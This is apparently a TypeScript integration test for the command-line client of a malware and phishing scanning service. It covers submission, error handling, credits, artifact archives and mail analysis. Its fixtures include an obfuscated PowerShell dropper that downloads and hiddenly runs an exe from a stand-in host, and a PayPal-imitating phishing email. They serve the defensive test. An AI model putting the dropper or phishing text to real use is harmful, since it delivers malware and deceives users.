// What the command line does with a running service when all goes well, and when one of many inputs does not.
import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, it } from 'node:test'
import { accountResponse, type FileRecord, fileRecord, phishingData } from '@assay/contract'
import { ask } from '../../server/test/service/client.ts'
import { BOOTSTRAP_KEY, type Service, startService } from '../../server/test/service/service.ts'
import { type Captured, captured } from './captured.ts'

const folder = mkdtempSync(join(tmpdir(), 'at-service-'))
const at = (name: string): string => join(folder, name)

const NOTE = 'Buy milk, call home.\n'
const DROPPER = `$p = "$env:TEMP\\update.exe"
(New-Object Net.WebClient).DownloadFile(('ht' + 'tp://files.example.invalid/a.exe'), $p)
Start-Process $p -WindowStyle Hidden
`
const PHISH = `From: PayPal <info@account-check.example>
To: jo@recipient.example
Subject: Verify your account

Log in within 24 hours or your account is closed: http://198.51.100.7/paypal/login
`
const LETTER = 'From: Ann <ann@friends.example>\nTo: jo@recipient.example\nSubject: Saturday\n\nAt ten at the lake?\n'

interface Line {
  readonly path: string
  readonly data?: FileRecord
  readonly error?: { readonly code: string; readonly message: string }
}

const linesOf = (text: string): readonly Line[] =>
  text
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as Line)

const sha256Of = (text: string): string => createHash('sha256').update(text).digest('hex')

describe('the command line and a running service', { timeout: 180_000 }, () => {
  let service: Service
  const assay = (...words: readonly string[]): Promise<Captured> =>
    captured(words, {
      XDG_CONFIG_HOME: at('config'),
      ASSAY_CONFIG: undefined,
      ASSAY_URL: service.url,
      ASSAY_KEY: BOOTSTRAP_KEY,
    })
  const creditsLeft = async (): Promise<number> =>
    accountResponse.parse(JSON.parse((await assay('account', '--json')).out)).data.credits_remaining

  before(async () => {
    mkdirSync(at('mixed'))
    writeFileSync(at('mixed/a-note.txt'), NOTE)
    writeFileSync(at('mixed/b-empty'), '')
    writeFileSync(at('mixed/c-large.bin'), Buffer.alloc(100_001, 'x'))
    writeFileSync(at('mixed/d-setup.ps1'), DROPPER)
    writeFileSync(at('other.txt'), `${NOTE}And bread.\n`)
    writeFileSync(at('tagged.txt'), `${NOTE}And tea.\n`)
    writeFileSync(at('phish.eml'), PHISH)
    writeFileSync(at('letter.eml'), LETTER)
    service = await startService(at('service'), {
      ASSAY_FILE_BYTES_MAX: '100000',
      ASSAY_FILE_WORKERS: '1',
      ASSAY_FILE_CREDITS: '5',
    })
  })
  after(async () => {
    await service.stop()
    rmSync(folder, { recursive: true })
  })

  it('submit: what is wrong with one file costs that file its line, and the rest get their verdicts', async () => {
    const before = await creditsLeft()
    const { code, out } = await assay('submit', '--json', at('mixed'), at('nope.bin'))
    const told = new Map(linesOf(out).map((line) => [line.path, line]))
    assert.equal(told.size, 5)
    const verdictOf = (name: string): unknown => fileRecord.parse(told.get(at(name))?.data).verdict
    assert.equal(verdictOf('mixed/a-note.txt'), 'clean')
    assert.equal(verdictOf('mixed/d-setup.ps1'), 'malicious')
    const errorOf = (name: string): string | undefined => told.get(at(name))?.error?.code
    assert.equal(errorOf('mixed/b-empty'), 'empty')
    assert.equal(errorOf('mixed/c-large.bin'), 'file_too_large')
    assert.equal(errorOf('nope.bin'), 'unreadable')
    // What was found does not hide behind what failed.
    assert.equal(code, 2)
    // Two submissions, and one credit for each look at how far they are.
    const spent = before - (await creditsLeft())
    assert.ok(spent >= 12 && spent < 15, `${spent}`)
  })

  it('submit: as a table, with 1 where a file failed and none is bad', async () => {
    const { code, out } = await assay('submit', at('mixed/a-note.txt'), at('mixed/c-large.bin'), at('other.txt'))
    assert.equal(code, 1)
    const rows = out.split('\n')
    assert.match(rows[0] ?? '', /^VERDICT +SCORE +TYPE +FILE +WHY$/)
    assert.equal(rows.filter((row) => /^clean +0 +text /.test(row)).length, 2)
    assert.equal(rows.filter((row) => /^error +- +- +\S*c-large\.bin +was refused: /.test(row)).length, 1)
    assert.match(out, /\n2 clean, 1 failed\n$/)
  })

  it('artifacts: what a run left is one file that nobody else reads, and nothing is written over', async () => {
    const path = at('evidence.zip')
    const { code, out } = await assay('artifacts', at('mixed/d-setup.ps1'), '--output', path)
    assert.equal(code, 0)
    assert.match(out, /evidence\.zip: \d+ bytes, password "infected"/)
    assert.equal(readFileSync(path).toString('latin1', 0, 2), 'PK')
    assert.equal(statSync(path).mode & 0o777, 0o600)
    const again = await assay('artifacts', sha256Of(DROPPER), '--output', path)
    assert.deepEqual([again.code, /is there already/.test(again.err)], [1, true])
    const nothing = await assay('artifacts', at('mixed/a-note.txt'), '--output', at('none.zip'))
    assert.deepEqual([nothing.code, /No run of this file left anything/.test(nothing.err)], [1, true])
  })

  it('submit --no-wait, with tags; status then tells the verdict, by hash and by file', async () => {
    const path = at('tagged.txt')
    const { code, out } = await assay('submit', '--no-wait', '--json', '--tag', 'case-17', '--tag', 'desk', path)
    assert.equal(code, 0)
    const [submitted] = linesOf(out)
    const sha256 = submitted?.data?.sha256 ?? ''
    assert.equal(sha256, sha256Of(`${NOTE}And tea.\n`))
    assert.equal(submitted?.data?.verdict ?? null, null)
    let status: Captured
    do status = await assay('status', sha256, '--json')
    while (status.code === 4)
    assert.equal(status.code, 0)
    const [known] = linesOf(status.out)
    assert.equal(fileRecord.parse(known?.data).verdict, 'clean')
    assert.deepEqual(known?.data?.tags, ['case-17', 'desk'])
    const byFile = await assay('status', path)
    assert.equal(byFile.code, 0)
    assert.match(byFile.out, /^CLEAN/)
    assert.ok(byFile.out.includes(sha256))
  })

  it('submit --no-wait of several says that they were submitted', async () => {
    const { code, out } = await assay('submit', '--no-wait', '--force', at('other.txt'), at('tagged.txt'))
    assert.equal(code, 0)
    assert.match(out, /\n2 submitted\n$/)
  })

  it('account tells whose key it is and what is left', async () => {
    const { code, out } = await assay('account')
    assert.equal(code, 0)
    const rows = new Map(
      out
        .trim()
        .split('\n')
        .map((row) => [row.slice(0, 13).trim(), row.slice(13)]),
    )
    assert.equal(rows.get('credits'), String(await creditsLeft()))
    assert.ok(BOOTSTRAP_KEY.startsWith((rows.get('key') ?? '').replace(/….*/, '')))
    assert.ok(!out.includes(BOOTSTRAP_KEY))
    assert.match(rows.get('permissions') ?? '', /\bapi:full\b/)
    assert.match(rows.get('requests') ?? '', /^\d+ of 600 a minute left$/)
  })

  it('analyze mail --service: one credit a message, and the verdict of the engine here', async () => {
    const before = await creditsLeft()
    const there = await assay('analyze', 'mail', '--service', '--json', at('phish.eml'), at('letter.eml'))
    assert.equal(before - (await creditsLeft()), 2)
    const here = await assay('analyze', 'mail', '--dns', 'off', '--json', at('phish.eml'), at('letter.eml'))
    const verdicts = (text: string): unknown =>
      linesOf(text)
        .map(({ path, data }) => ({ path, verdict: phishingData.parse(data).verdict }))
        .toSorted((a, b) => a.path.localeCompare(b.path))
    assert.deepEqual(verdicts(there.out), verdicts(here.out))
    assert.deepEqual([there.code, here.code], [2, 2])
    const full = await assay('analyze', 'mail', '--service', at('letter.eml'))
    assert.deepEqual([full.code, full.err], [0, ''])
    assert.match(full.out, /^SAFE/)
  })

  it('evaluate mail --judged: measures on what people said of kept mail, and leaves it with a table of labels', async () => {
    const words = ['--url', service.url, '--judged', at('judged'), '--dns', 'off', '--json']
    const { data } = (await ask(service, '/v1/phishing/analyses')).json
    const said = { 'Verify your account': 'confirmed', Saturday: 'false_alarm' } as const
    for (const { analysis_id: id, subject } of data.analyses)
      await ask(service, `/v1/phishing/analyses/${id}/disposition`, {
        method: 'PUT',
        json: { label: said[subject as keyof typeof said] },
      })
    // Nobody said a word on this one.
    const content = LETTER.replace('Saturday', 'Sunday')
    await ask(service, '/v1/phishing/analyze', { json: { input_type: 'eml', content } })
    const { code, out, err } = await assay('evaluate', 'mail', ...words)
    assert.deepEqual([code, err.split('\n')[0]], [0, `2 kept mails with a word on them in ${at('judged')}`])
    const { bad, good, sources } = JSON.parse(out)
    assert.deepEqual([bad, good], [1, 1])
    assert.deepEqual(sources.map(({ source }: { source: string }) => source).sort(), ['confirmed', 'false_alarm'])
    const rows = readFileSync(at('judged/labels.tsv'), 'utf8').trim().split('\n').slice(1)
    assert.deepEqual(rows.map((row) => row.split('\t')[1]).sort(), ['ham', 'phish'])
    const [file = ''] = rows.find((row) => row.includes('phish'))?.split('\t') ?? []
    assert.equal(readFileSync(at(`judged/${file}`), 'utf8'), PHISH)
    const both = await assay('evaluate', 'mail', ...words, '--phish', at('judged'))
    assert.match(both.err, /--judged takes the place of --phish/)
  })
})
